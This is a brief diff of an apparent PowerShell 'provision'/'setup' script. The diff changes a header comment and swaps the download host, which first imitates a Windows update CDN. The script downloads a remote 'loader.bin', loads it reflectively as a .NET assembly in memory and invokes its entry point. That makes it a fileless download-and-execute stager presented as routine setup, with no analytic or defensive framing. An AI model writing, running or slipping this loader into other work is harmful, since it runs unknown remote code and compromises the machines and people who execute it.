@@ -1,4 +1,4 @@
-# provision 8634 v4
-$b = (New-Object Net.WebClient).DownloadData('http://dl.winupdate-cdn.example/loader.bin')
+# setup 5644 v4
+$b = (New-Object Net.WebClient).DownloadData('http://files.sync-svc.example/loader.bin')
 $a = [System.Reflection.Assembly]::Load($b)
 $a.EntryPoint.Invoke($null, (, [string[]] @()))
